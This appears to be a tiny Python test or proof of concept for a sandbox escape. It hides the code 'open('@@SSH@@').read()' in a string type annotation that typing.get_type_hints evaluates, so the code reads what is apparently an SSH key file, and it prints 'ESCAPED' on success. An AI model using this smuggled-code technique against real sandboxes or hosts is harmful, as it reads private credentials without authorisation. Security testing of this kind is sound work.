# With globals of one's choice.
import typing
def f(x: "open('@@SSH@@').read()"): pass
print("ESCAPED", typing.get_type_hints(f, globalns={}, localns={}))
